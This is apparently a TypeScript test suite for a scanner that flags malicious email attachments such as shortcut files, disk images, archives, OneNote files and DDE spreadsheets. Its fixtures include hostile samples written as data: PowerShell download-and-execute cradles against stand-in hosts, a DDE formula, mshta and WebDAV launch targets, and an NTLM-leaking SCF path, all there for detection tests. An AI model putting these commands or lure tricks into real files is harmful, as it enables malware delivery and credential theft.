import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import zlib from 'node:zlib';
import { test } from 'node:test';
import { buildHwp, buildImg, buildIso, buildLnk, buildPng } from '../../demo/artifacts/index.js';
import { analyzeAttachment } from './analyze.js';
import { detectType } from './magic.js';
import { findPasswordsInText } from './password.js';
import { analyze, mediumOrAbove } from './test-helpers.js';

test('lnk-lolbin: shortcut to powershell with a download cradle', () => {
  const a = analyze('Invoice.pdf.lnk', buildLnk({ target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: '-w hidden -c "iwr https://files.example.net/x.ps1 | iex"', iconLocation: 'C:\\Program Files\\Adobe\\Acrobat.exe' }));
  assert.equal(a.detectedType, 'lnk');
  assert.equal(a.findings.find((f) => f.id === 'lnk-lolbin')?.severity, 'critical');
  assert.ok(a.flags.includes('double-extension'));
  assert.ok(a.urls.includes('https://files.example.net/x.ps1'));
});

test('lnk-padded-arguments hidden behind whitespace', () => {
  const a = analyze('a.lnk', buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', args: `${' '.repeat(200)}/c start evil.exe` }));
  assert.ok(a.flags.includes('lnk-padded-arguments'));
});

test('truncated-lnk does not throw', () => {
  const a = analyze('a.lnk', buildLnk({ target: 'C:\\x.exe' }).subarray(0, 40));
  assert.ok(a.detectedType === 'lnk' && a.flags.includes('lnk'));
});

test('iso: Joliet names listed, members analysed', () => {
  const a = analyze('Docs.iso', buildIso({ files: [{ name: 'Invoice.pdf.lnk', data: buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', args: '/c x' }) }, { name: 'logo.png', data: buildPng() }] }));
  assert.equal(a.detectedType, 'iso');
  assert.deepEqual(a.members.map((m) => [m.path, m.detectedType]), [['Invoice.pdf.lnk', 'lnk'], ['logo.png', 'png']]);
  assert.ok(a.flags.includes('disk-image') && a.flags.includes('lnk-lolbin'));
});

function tarOf(name: string, body: string): Uint8Array {
  const tar = new Uint8Array(2048);
  tar.set(Buffer.from(name), 0);
  tar.set(Buffer.from(`${body.length.toString(8).padStart(11, '0')}\u0000`), 124);
  tar[156] = 0x30;
  tar.set(Buffer.from('ustar\u000000'), 257);
  tar.set(Buffer.from(body), 512);
  return tar;
}

test('gzip and tar are opened', () => {
  const tar = tarOf('run.js', 'var a = new ActiveXObject("WScript.Shell");');
  const gz = new Uint8Array(zlib.gzipSync(tar));
  const a = analyze('x.tar.gz', gz);
  assert.equal(a.detectedType, 'gzip');
  assert.equal(a.members[0]?.detectedType, 'tar');
  assert.equal(a.members[0]?.members[0]?.path, 'run.js');
});

test('gzip-bomb refused', () => {
  const gz = new Uint8Array(zlib.gzipSync(new Uint8Array(16 * 1024 * 1024)));
  const a = analyze('x.gz', gz);
  assert.ok(a.flags.includes('zip-bomb'));
});

test('rar4 members listed by name; encrypted flag honoured', () => {
  const name = Buffer.from('Invoice.pdf.exe');
  const mark = Buffer.from('Rar!\u001a\u0007\u0000', 'latin1');
  const main = Buffer.from([0, 0, 0x73, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0]);
  const fh = Buffer.alloc(32 + name.length);
  fh[2] = 0x74;
  fh.writeUInt16LE(0x8004, 3);
  fh.writeUInt16LE(fh.length, 5);
  fh.writeUInt32LE(0, 7);
  fh.writeUInt32LE(1234, 11);
  fh.writeUInt16LE(name.length, 26);
  name.copy(fh, 32);
  const a = analyze('a.rar', new Uint8Array(Buffer.concat([mark, main, fh])));
  assert.equal(a.detectedType, 'rar');
  assert.equal(a.members[0]?.path, 'Invoice.pdf.exe');
  assert.ok(a.flags.includes('encrypted-archive') && a.flags.includes('executable') && a.flags.includes('double-extension'));
});

const nameCases: { name: string; content: Uint8Array | string; flags: string[]; not?: string[] }[] = [
  { name: 'invoice.pdf.exe', content: 'MZ\u0090\u0000', flags: ['double-extension', 'executable'] },
  { name: 'Invoice.pdf                    .scr', content: 'MZ', flags: ['double-extension'] },
  { name: 'report\u202Efdp.exe', content: 'MZ', flags: ['rtlo-filename'] },
  { name: 'photo.jpg', content: 'MZ\u0090\u0000', flags: ['type-mismatch', 'executable'] },
  { name: 'backup.tar.gz', content: new Uint8Array(zlib.gzipSync(tarOf('notes.txt', 'hello'))), flags: [], not: ['double-extension', 'type-mismatch'] },
  { name: 'logo.png', content: buildPng(), flags: [], not: ['type-mismatch'] },
  { name: 'notes.txt', content: '@echo off\r\npowershell -c "iwr http://x/y"', flags: ['script', 'type-mismatch'] },
];
for (const c of nameCases) {
  test(`name check: ${JSON.stringify(c.name)}`, () => {
    const a = analyze(c.name, c.content);
    for (const f of c.flags) assert.ok(a.flags.includes(f), `${f} in ${a.flags.join(',')}`);
    for (const f of c.not ?? []) assert.ok(!a.flags.includes(f), `${f} not in ${a.flags.join(',')}`);
  });
}

const magicCases: [string, Uint8Array | string, string][] = [
  ['pe', 'MZ\u0090\u0000', 'pe'],
  ['elf', '\u007fELF\u0002\u0001', 'elf'],
  ['macho', new Uint8Array([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), 'macho'],
  ['7z', new Uint8Array([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), '7z'],
  ['cab', new Uint8Array([0x4d, 0x53, 0x43, 0x46, 0, 0, 0, 0]), 'cab'],
  ['chm', 'ITSF\u0003\u0000\u0000\u0000', 'chm'],
  ['vhdx', 'vhdxfile', 'vhdx'],
  ['onenote', new Uint8Array([0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3]), 'onenote'],
  ['rtf', '{\\rtf1\\ansi hello}', 'rtf'],
  ['pdf after junk', 'junk\n%PDF-1.4\n', 'pdf'],
  ['ics', 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\n', 'ics'],
  ['html', '<!doctype html><p>x', 'html'],
  ['hta', '<html><hta:application id="x"><script>x</script></html>', 'hta'],
  ['vbe', '#@~^XAAAAA==abc', 'vbe'],
  ['wsf', '<job id="a"><script language="JScript">x</script></job>', 'wsf'],
  ['plain text', 'Hello, see you tomorrow.', 'text'],
  ['empty', '', 'empty'],
  ['binary noise', new Uint8Array([0, 1, 2, 3, 250, 251]), 'unknown'],
];
for (const [label, content, type] of magicCases) {
  test(`magic: ${label}`, () => {
    assert.equal(detectType(typeof content === 'string' ? new Uint8Array(Buffer.from(content, 'latin1')) : content), type);
  });
}

test('vhd footer at the end of the image', () => {
  const b = new Uint8Array(4096);
  b.set(Buffer.from('conectix'), 4096 - 512);
  assert.ok(analyze('disk.vhd', b).flags.includes('disk-image'));
});

test('password phrasing, English and Korean', () => {
  assert.deepEqual(findPasswordsInText('Password: 1234'), ['1234']);
  assert.deepEqual(findPasswordsInText('The password for the file is Xz9-33.'), ['Xz9-33']);
  assert.deepEqual(findPasswordsInText('PW = abc123'), ['abc123']);
  assert.deepEqual(findPasswordsInText('비밀번호: 2024!!'), ['2024!!']);
  assert.deepEqual(findPasswordsInText('문서 암호는 0815입니다'), ['0815']);
  assert.deepEqual(findPasswordsInText('Senha de acesso ao arquivo: 123'), ['123']);
  assert.deepEqual(findPasswordsInText('Use a senha: 123\r\n'), ['123']);
  assert.deepEqual(findPasswordsInText('Your password has expired, reset it today.'), []);
});

test('benign images and calendars: nothing medium+', () => {
  assert.deepEqual(mediumOrAbove(analyze('a.png', buildPng())), []);
});

test('mobileconfig: plain profile installing a CalDAV account', () => {
  const plist = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PayloadContent</key><array><dict><key>CalDAVHostName</key><string>cal.spam.example</string><key>PayloadType</key><string>com.apple.caldav.account</string></dict></array><key>PayloadType</key><string>Configuration</string></dict></plist>';
  const a = analyze('ATT0001', plist);
  assert.equal(a.detectedType, 'mobileconfig');
  assert.equal(a.findings.find((f) => f.id === 'mobileconfig')?.severity, 'high');
  assert.ok(a.urls.includes('https://cal.spam.example'));
});

test('mobileconfig: root certificate payload is critical', () => {
  const plist = '<plist version="1.0"><dict><key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.security.root</string></dict></array></dict></plist>';
  assert.equal(analyze('ca.mobileconfig', plist).findings.find((f) => f.id === 'mobileconfig')?.severity, 'critical');
});

test('onenote-embedded-file: the hidden .hta is analysed', () => {
  const hta = Buffer.from('<html><hta:application id="x"><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>');
  const header = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex');
  const fdso = Buffer.alloc(36);
  Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(fdso, 0);
  fdso.writeUInt32LE(hta.length, 16);
  const one = new Uint8Array(Buffer.concat([header, Buffer.alloc(100), fdso, hta, Buffer.alloc(8)]));
  const a = analyze('Invoice.one', one);
  assert.equal(a.detectedType, 'onenote');
  assert.equal(a.members[0]?.detectedType, 'hta');
  assert.ok(a.flags.includes('script') && a.flags.includes('onenote-embedded-file'));
});

test('url-shortcut to a WebDAV share is critical', () => {
  const a = analyze('Invoice.url', '[InternetShortcut]\r\nURL=file://203.0.113.5@80/share/Invoice.pdf.exe\r\nIconIndex=13\r\n');
  assert.equal(a.detectedType, 'url-shortcut');
  assert.equal(a.findings.find((f) => f.id === 'url-shortcut')?.severity, 'critical');
});

test('scf pointing at a UNC path leaks NTLM', () => {
  const a = analyze('desktop.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.9\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n');
  assert.ok(a.flags.includes('ntlm-leak'));
});

test('img (FAT12): long names listed, hidden lnk analysed', () => {
  const img = buildImg({ files: [{ name: 'Wallet Audit Report.pdf.lnk', data: buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', args: '/c start x' }) }, { name: 'readme.txt', data: 'x'.repeat(1500) }] });
  const a = analyze('Audit.img', img);
  assert.equal(a.detectedType, 'img');
  assert.deepEqual(a.members.map((m) => [m.path, m.detectedType, m.size]), [['Wallet Audit Report.pdf.lnk', 'lnk', a.members[0]?.size], ['readme.txt', 'text', 1500]]);
  assert.ok(a.flags.includes('lnk-lolbin') && a.flags.includes('double-extension') && a.flags.includes('disk-image'));
});

test('fat-cluster-cycle: a looping FAT chain ends, no hang', () => {
  const img = new Uint8Array(buildImg({ files: [{ name: 'a.txt', data: 'y'.repeat(3000) }] }));
  // FAT12 entry for cluster 3 (odd: high nibble of byte 4 and byte 5 of the FAT at offset 512) set to 2.
  img[512 + 4] = ((img[512 + 4] ?? 0) & 0x0f) | 0x20;
  img[512 + 5] = 0x00;
  const a = analyze('x.img', img);
  assert.equal(a.detectedType, 'img');
  assert.equal(a.members[0]?.size, 3000);
  assert.ok(a.flags.includes('parse-error:truncated'), 'the cycle cut the chain short, and says so');
});

test('url-shortcut to a web page (shared link, as in the ham corpus) is low and its URL returned', () => {
  const a = analyze('Liberalism in America.url', '[DEFAULT]\nBASEURL=http://www.example.edu/a.html\n[InternetShortcut]\nURL=http://www.example.edu/a.html\n');
  assert.deepEqual(mediumOrAbove(a), []);
  assert.ok(a.urls.includes('http://www.example.edu/a.html'));
});

test('disk-image-carved: a shortcut inside a UDF-only image is still found', () => {
  const img = new Uint8Array(256 * 2048 + 4096);
  img.set(Buffer.from('BEA01'), 0x8001);
  img.set(Buffer.from('NSR02'), 0x8801);
  const lnk = buildLnk({ target: 'C:\\Windows\\System32\\mshta.exe', args: 'https://x.example/a.hta' });
  img.set(lnk, 256 * 2048);
  const a = analyze('Invoice.iso', img);
  assert.equal(a.detectedType, 'udf');
  assert.equal(a.members[0]?.detectedType, 'lnk');
  assert.equal(a.members[0]?.sha256, createHash('sha256').update(lnk).digest('hex'), 'carved to the shortcut\'s own length');
  assert.ok(a.flags.includes('lnk-lolbin') && a.flags.includes('disk-image'));
});

test('dde formula in a CSV attachment', () => {
  const a = analyze('prices.csv', 'Date,Asset,Price\n2024-03-01,BTC,61000\n=cmd|\' /C powershell -w hidden iwr http://x.example/a\'!A0,,\n');
  assert.ok(a.flags.includes('dde'));
  assert.deepEqual(mediumOrAbove(analyze('ok.csv', 'a,b\n=SUM(A1:A3),2\n')), [], 'ordinary formulas are not DDE');
});

test('iqy web query', () => {
  const a = analyze('report.iqy', 'WEB\r\n1\r\nhttps://files.example.net/q?x=1\r\n');
  assert.ok(a.flags.includes('iqy') && a.urls.includes('https://files.example.net/q?x=1'));
});

test('lnk-remote-target: program on a WebDAV share', () => {
  const a = analyze('Report.lnk', buildLnk({ target: '\\\\203.0.113.5@80\\DavWWWRoot\\update.exe' }));
  assert.equal(a.findings.find((f) => f.id === 'lnk-remote-target')?.severity, 'critical');
});

test('analysed-bytes cap: members past the budget are listed, not hashed', () => {
  const files = Array.from({ length: 5 }, (_, i) => ({ name: `f${i}.bin`, data: new Uint8Array(400_000).fill(i + 1) }));
  const a = analyze('big.iso', buildIso({ files }), { limits: { maxTotalInflatedBytes: 500_000 } });
  assert.equal(a.members.length, 5);
  assert.ok(a.members.filter((m) => m.sha256 === null).length >= 3);
  assert.ok(a.flags.includes('archive-limit'));
});

test('declared image/pdf type for an executable is a high type-mismatch', () => {
  const a = analyzeAttachment({ filename: 'scan', declaredType: 'application/pdf; name=scan', content: new Uint8Array(Buffer.from('MZ\u0090\u0000')) });
  assert.equal(a.findings.find((f) => f.id === 'type-mismatch')?.severity, 'high');
  const ok = analyzeAttachment({ filename: 'setup.exe', declaredType: 'application/octet-stream', content: new Uint8Array(Buffer.from('MZ\u0090\u0000')) });
  assert.ok(!ok.flags.includes('type-mismatch'));
});

test('7z with AES-encrypted header is flagged; a password in the body is noted', () => {
  const next = Buffer.from([0x17, 0x06, 0x00, 0x01, 0x09, 0x00, 0x07, 0x0b, 0x01, 0x00, 0x01, 0x24, 0x06, 0xf1, 0x07, 0x01, 0x0a, 0x00]);
  const start = Buffer.alloc(32);
  Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]).copy(start, 0);
  start.writeUInt32LE(16, 12); // next header offset (after 16 bytes of packed data)
  start.writeUInt32LE(next.length, 20);
  const a = analyze('docs.7z', new Uint8Array(Buffer.concat([start, Buffer.alloc(16, 0xaa), next])), { bodyText: 'Archive password: 7788' });
  assert.equal(a.detectedType, '7z');
  assert.ok(a.flags.includes('encrypted-archive') && a.flags.includes('archive-password-in-body'));
});

test('lnk-appended-data: payload riding after the shortcut is analysed', () => {
  const lnk = buildLnk({ target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: '-c "$b=[IO.File]::ReadAllBytes($env:temp+\'\\a.lnk\')"' });
  const payload = buildHwp({ text: '안내', eps: '%!PS-Adobe-3.0\n' });
  const a = analyze('안내문.hwp.lnk', new Uint8Array(Buffer.concat([Buffer.from(lnk), Buffer.alloc(8192), Buffer.from(payload)])));
  assert.ok(a.flags.includes('lnk-appended-data'));
  assert.ok(a.members[0]?.path.startsWith('appended@'));
});

/**
 * The UDF descriptors the scanner reads (volume recognition, Partition Descriptor, FIDs, File Entries) placed
 * where a UDF volume keeps them: not a mountable volume (no anchor or logical volume descriptors), a parser fixture.
 */
function udfFixture(files: { name: string; data: Buffer; embed: boolean }[]): Uint8Array {
  const S = 2048;
  const partStart = 64;
  const img = Buffer.alloc((partStart + 16 + files.length * 2) * S + files.reduce((a, f) => a + Math.ceil(f.data.length / S) * S, 0));
  const tag = (off: number, id: number, loc: number): void => {
    img.writeUInt16LE(id, off);
    img.writeUInt16LE(2, off + 2);
    img.writeUInt32LE(loc, off + 12);
    let sum = 0;
    for (let i = 0; i < 16; i++) if (i !== 4) sum += img[off + i] ?? 0;
    img[off + 4] = sum & 0xff;
  };
  img.write('BEA01', 16 * S + 1, 'latin1');
  img.write('NSR02', 17 * S + 1, 'latin1');
  img.write('TEA01', 18 * S + 1, 'latin1');
  img.writeUInt32LE(partStart, 32 * S + 188);
  tag(32 * S, 5, 32);
  let fid = (partStart + 2) * S;
  let dataLbn = 16 + files.length;
  files.forEach((f, i) => {
    const feLbn = 3 + i;
    const name = Buffer.concat([Buffer.from([8]), Buffer.from(f.name, 'latin1')]);
    img[fid + 19] = name.length;
    img.writeUInt32LE(feLbn, fid + 24);
    name.copy(img, fid + 38);
    tag(fid, 257, 2);
    fid += (38 + name.length + 3) & ~3;
    const fe = (partStart + feLbn) * S;
    img[fe + 27] = 5;
    img.writeUInt32LE(f.data.length, fe + 56);
    if (f.embed) {
      img.writeUInt16LE(3, fe + 34);
      img.writeUInt32LE(f.data.length, fe + 172);
      f.data.copy(img, fe + 176);
    } else {
      img.writeUInt32LE(8, fe + 172);
      img.writeUInt32LE(f.data.length, fe + 176);
      img.writeUInt32LE(dataLbn, fe + 180);
      f.data.copy(img, (partStart + dataLbn) * S);
      dataLbn += Math.ceil(f.data.length / S);
    }
    tag(fe, 261, feLbn);
  });
  return new Uint8Array(img);
}

test('udf: files named by FIDs, data embedded or in extents, analysed', () => {
  const lnk = Buffer.from(buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', args: '/c start x' }));
  const js = Buffer.from('new ActiveXObject("WScript.Shell").Run("calc")');
  const a = analyze('Docs.iso', udfFixture([{ name: 'Invoice.pdf.lnk', data: lnk, embed: false }, { name: 'run.js', data: js, embed: true }]));
  assert.equal(a.detectedType, 'udf');
  assert.deepEqual(a.members.map((m) => [m.path, m.detectedType]), [['Invoice.pdf.lnk', 'lnk'], ['run.js', 'js']]);
  assert.equal(a.members[0]?.sha256, createHash('sha256').update(lnk).digest('hex'));
  assert.ok(a.flags.includes('lnk-lolbin') && a.flags.includes('double-extension') && a.flags.includes('script'));
});

test('udf-bad-checksum descriptors are ignored (no phantom files)', () => {
  const img = udfFixture([{ name: 'a.js', data: Buffer.from('WScript.Echo(1)'), embed: true }]);
  img[(64 + 3) * 2048 + 4] = (img[(64 + 3) * 2048 + 4] ?? 0) ^ 0xff; // corrupt the File Entry's tag checksum
  const a = analyze('x.iso', img);
  assert.equal(a.detectedType, 'udf');
  assert.ok(!a.flags.includes('script'));
});
